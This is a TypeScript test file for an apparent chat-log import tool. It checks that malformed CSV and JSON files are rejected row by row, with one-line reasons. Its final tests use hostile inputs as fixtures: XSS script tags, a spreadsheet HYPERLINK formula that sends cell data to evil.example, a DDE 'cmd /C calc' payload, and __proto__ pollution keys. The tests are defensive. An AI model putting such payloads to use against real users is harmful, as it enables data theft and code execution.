import { spawnSync } from 'node:child_process';
import { openAsBlob } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openNodeDb } from '$lib/db/node';
import type { Db } from '$lib/db/types';
import type { InputSummary } from '$lib/engine/protocol';
import { importFiles } from './import-files';
import { proposeFile, type NamedBlob } from './propose';

// The bad-input corpus (tests/fixtures/bad/README.md): each file goes through the real import path, the one the
// app and the command line use: proposeFile (sniff + guess), then importFiles into native DuckDB.

const DIR = 'tests/fixtures/bad';
const HEADER = 'conversation_id,message_id,sent_at,role,author,department,text';
const badFile = async (name: string): Promise<NamedBlob> => new File([await openAsBlob(`${DIR}/${name}`)], name);

interface Loaded {
	input: InputSummary;
	rows: { message_id: string; sent_at: number; role: string; author: string | null; department: string | null; text: string }[];
}

let db: Db;
beforeEach(async () => (db = await openNodeDb()));
afterEach(() => db.close());

/** Proposes and imports one file that must be readable, and checks the counting rule every import keeps. */
async function load(file: NamedBlob): Promise<Loaded> {
	const proposal = await proposeFile(file, 'UTC');
	expect(proposal.error).toBeUndefined();
	expect(proposal.missing).toEqual([]);
	const input = await importFiles(db, [file], [proposal.plan]);
	expectEveryRowCounted(input);
	const rows = await db.query<Loaded['rows'][number]>(
		'SELECT message_id, sent_at, role, author, department, text FROM messages ORDER BY seq'
	);
	expect(rows).toHaveLength(input.rows_loaded);
	return { input, rows };
}

/** rows_read = rows_loaded + rows_rejected, in total and per file, and every rejected row is listed. */
function expectEveryRowCounted(input: InputSummary): void {
	expect(input.rows_read).toBe(input.rows_loaded + input.rows_rejected);
	for (const f of input.files) expect(f.rows_read).toBe(f.rows_loaded + f.rows_rejected);
	expect(input.rejected).toHaveLength(input.rows_rejected);
	for (const r of input.rejected) {
		expect(r.file).toBeTruthy();
		expect(r.row).toBeGreaterThan(0);
		expect(r.reason).toMatch(/^[^\n]+$/);
	}
}

/** A reason a person reads: one line, no stack frames. */
const oneLine = /^(?![\s\S]*\n)(?![\s\S]*\bat \S+:\d+)/;

describe('unreadable input gives one sentence, and no rows are loaded', () => {
	it.each([
		['empty.csv', /^the file is empty$/],
		['header-only.csv', /^only a header row, no messages$/],
		['binary.csv', /^this is not a text file .*: export the chat as CSV, TSV or JSON$/],
		['truncated.json', /^JSON ends unexpectedly at byte 201: the file looks cut off$/]
	])('%s', async (name, reason) => {
		const proposal = await proposeFile(await badFile(name), 'UTC');
		expect(proposal.error).toMatch(reason);
		expect(proposal.error).toMatch(oneLine);
	});

	it('no-columns.csv: lists the fields it could not find, so the user can map them', async () => {
		const proposal = await proposeFile(await badFile('no-columns.csv'), 'UTC');
		expect(proposal.error).toBeUndefined();
		expect(proposal).toMatchObject({ columns: ['id', 'amount', 'price'], missing: ['sent_at', 'text', 'role'] });
	});
});

describe('the command line exits 2 with one line on standard error for unreadable input', () => {
	const cli = (...args: string[]) =>
		spawnSync('npx', ['tsx', 'src/cli/main.ts', 'analyze', ...args, '--tz', 'UTC'], { encoding: 'utf8', timeout: 120_000 });

	it.each([
		['empty.csv', /^replyscope: empty\.csv: the file is empty$/],
		['header-only.csv', /^replyscope: header-only\.csv: only a header row, no messages$/],
		['binary.csv', /^replyscope: binary\.csv: this is not a text file/],
		['truncated.json', /^replyscope: truncated\.json: JSON ends unexpectedly at byte 201/],
		['no-columns.csv', /^replyscope: no-columns\.csv: no column found for .*Its columns are: id, amount, price$/]
	])('%s', (name, line) => {
		const run = cli(`${DIR}/${name}`);
		expect(run.status).toBe(2);
		expect(run.stdout).toBe('');
		expect(run.stderr.trimEnd().split('\n')).toEqual([expect.stringMatching(line)]);
	});
});

describe('partly bad input loads the good rows and lists each bad one', () => {
	it('bad-dates.csv: impossible, empty and non-date times are rejected by row', async () => {
		const { input, rows } = await load(await badFile('bad-dates.csv'));
		expect(input.rejected).toEqual([
			{ file: 'bad-dates.csv', row: 2, reason: "timestamp '2024-02-31 09:05:00' is not a date" },
			{ file: 'bad-dates.csv', row: 3, reason: 'timestamp is empty' },
			{ file: 'bad-dates.csv', row: 4, reason: "timestamp 'yesterday' is not a date" }
		]);
		expect(rows.map((r) => r.message_id)).toEqual(['m1', 'm5']);
	});

	it('field-count.csv: too few and too many fields are rejected; one trailing empty field is accepted', async () => {
		const { input, rows } = await load(await badFile('field-count.csv'));
		expect(input.rejected).toEqual([
			{ file: 'field-count.csv', row: 2, reason: 'row has 5 fields, the header has 7' },
			{ file: 'field-count.csv', row: 3, reason: 'row has 8 fields, the header has 7' }
		]);
		expect(rows.map((r) => r.message_id)).toEqual(['m1', 'm4', 'm5']);
	});

	it('unclosed-quote.csv: a quote that runs over later rows up to another quote is rejected, not loaded as one message', async () => {
		const { input, rows } = await load(await badFile('unclosed-quote.csv'));
		expect(input.rejected).toEqual([{ file: 'unclosed-quote.csv', row: 2, reason: expect.stringMatching(/^unclosed quote: this field runs on over the rows after it/) }]);
		expect(rows.map((r) => r.message_id)).toEqual(['m1', 'm5']);
		expect(rows.every((r) => !r.text.includes('\n'))).toBe(true);
	});

	it('unclosed-quote-eof.csv: a quote that never closes is rejected with the rows before it loaded', async () => {
		const { input, rows } = await load(await badFile('unclosed-quote-eof.csv'));
		expect(input.rejected).toEqual([{ file: 'unclosed-quote-eof.csv', row: 2, reason: 'unclosed quote: this field runs to the end of the file' }]);
		expect(rows.map((r) => r.message_id)).toEqual(['m1']);
	});

	it.todo('unclosed-quote*.csv: the rows a broken quote swallowed are read again on their own (changes csv.test.ts expectations and the reasons in i18n/reasons.ts)');

	it('unknown-roles.csv: unknown, empty and ambiguous roles are rejected with how to map them', async () => {
		const file = await badFile('unknown-roles.csv');
		expect((await proposeFile(file, 'UTC')).unknownRoles).toEqual(['courier', 'support bot']);
		const { input, rows } = await load(file);
		expect(input.rejected).toEqual([
			{ file: 'unknown-roles.csv', row: 2, reason: `unknown role 'courier': map it to customer, agent, bot or system (command line: --roles "courier=agent")` },
			{ file: 'unknown-roles.csv', row: 4, reason: 'role is empty' },
			{ file: 'unknown-roles.csv', row: 5, reason: expect.stringMatching(/^unknown role 'support bot'/) }
		]);
		expect(rows.map((r) => r.role)).toEqual(['customer', 'agent']);
	});

	it('duplicates.csv: the same rows twice load once, each copy naming the first', async () => {
		const { input, rows } = await load(await badFile('duplicates.csv'));
		expect(input.rejected).toEqual([
			{ file: 'duplicates.csv', row: 3, reason: 'duplicate of duplicates.csv row 1' },
			{ file: 'duplicates.csv', row: 4, reason: 'duplicate of duplicates.csv row 2' }
		]);
		expect(rows.map((r) => r.message_id)).toEqual(['m1', 'm2']);
	});

	it('the same file imported twice loads once, the second copy rejected as duplicates', async () => {
		const file = await badFile('duplicates.csv');
		const proposal = await proposeFile(file, 'UTC');
		const input = await importFiles(db, [file, file], [proposal.plan, proposal.plan]);
		expectEveryRowCounted(input);
		expect(input).toMatchObject({ rows_read: 8, rows_loaded: 2, rows_rejected: 6 });
	});
});

describe('odd but valid input loads whole and unchanged', () => {
	it('crlf-bom.csv: a BOM and CRLF line ends leave no trace in names or values; a line break inside a cell stays', async () => {
		const file = await badFile('crlf-bom.csv');
		expect((await proposeFile(file, 'UTC')).columns[0]).toBe('conversation_id');
		const { input, rows } = await load(file);
		expect(input.rows_rejected).toBe(0);
		expect(rows.map((r) => r.text)).toEqual(['Two lines\r\nin one cell', 'Hi']);
	});

	it('a JSON message with a field nested 5000 deep loads, that field as a note', async () => {
		const extra = '{"a":'.repeat(5000) + '1' + '}'.repeat(5000);
		const json = `[{"id": "m1", "sent_at": "2024-05-10T09:00:00Z", "role": "customer", "text": "Hi", "extra": ${extra}}]`;
		const { input, rows } = await load(new File([json], 'deep.json'));
		expect(input).toMatchObject({ rows_read: 1, rows_loaded: 1, rows_rejected: 0 });
		expect(rows[0].text).toBe('Hi');
	});

	it('a 1 MB message loads as it is', async () => {
		const big = 'я'.repeat(512 * 1024) + 'end';
		const text = `${HEADER}\nc1,m1,2024-05-10 09:00:00,customer,Ann,Payouts,"${big}"\nc1,m2,2024-05-10 09:05:00,agent,Bob,Payouts,ok\n`;
		const file = new File([text], 'big-message.csv');
		expect(file.size).toBeGreaterThan(1024 * 1024);
		const { input, rows } = await load(file);
		expect(input).toMatchObject({ rows_read: 2, rows_loaded: 2, rows_rejected: 0 });
		expect(rows[0].text).toBe(big);
	});

	it('unicode.csv: zero-width and right-to-left characters are kept in text and names, and ignored in roles', async () => {
		const { input, rows } = await load(await badFile('unicode.csv'));
		expect(input.rows_rejected).toBe(0);
		expect(rows[0]).toMatchObject({ author: 'Анна\u200b', text: 'zero\u200bwidth\u200c\u200d\ufeff space' });
		expect(rows[1]).toMatchObject({ author: 'דנה', department: 'الدعم', text: 'مرحبا \u202egnp.exe\u202c and \u2067שלום\u2069' });
		expect(rows[2].role).toBe('customer');
	});

	it('out-of-order.csv: rows out of time order all load, in file order, each with its own time', async () => {
		const { input, rows } = await load(await badFile('out-of-order.csv'));
		expect(input.rows_rejected).toBe(0);
		expect(rows.map((r) => [r.message_id, r.sent_at])).toEqual([
			['m3', Date.UTC(2024, 4, 10, 9, 20)],
			['m1', Date.UTC(2024, 4, 10, 9, 0)],
			['m4', Date.UTC(2024, 4, 9, 18, 0)],
			['m2', Date.UTC(2024, 4, 10, 9, 5)]
		]);
	});

	it.each(['proto-keys.json', 'proto-keys.ndjson'])('%s: __proto__ and constructor keys are plain columns and pollute nothing', async (name) => {
		const file = await badFile(name);
		const proposal = await proposeFile(file, 'UTC');
		expect(proposal.columns).toEqual(expect.arrayContaining(['[__proto__].polluted', '[constructor].prototype.polluted']));
		const { input, rows } = await load(file);
		expect(input.rows_rejected).toBe(0);
		expect(rows.map((r) => r.text)).toEqual(['Hello', 'Hi']);
		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
		expect(Object.prototype).not.toHaveProperty('polluted');
	});

	it('proto-keys.json: a column named _error does not reject its row', async () => {
		const proposal = await proposeFile(await badFile('proto-keys.json'), 'UTC');
		expect(proposal.columns).toContain('[_error]');
	});

	it('html-formulas.csv: HTML and spreadsheet formulas in messages and names load as plain text, unchanged', async () => {
		const { input, rows } = await load(await badFile('html-formulas.csv'));
		expect(input.rows_rejected).toBe(0);
		expect(rows.map(({ author, department, text }) => [author, department, text])).toEqual([
			['<img src=x onerror=alert(1)>', '<b>Payouts</b>', "<script>alert('x')</script>"],
			['=HYPERLINK("http://evil.example/?q="&A1;"click")', "+cmd|' /C calc'!A0", '=1+2'],
			['@SUM(A1:A9)', '-2+3', '&lt;not decoded&gt; &amp; <!-- comment -->']
		]);
	});
});
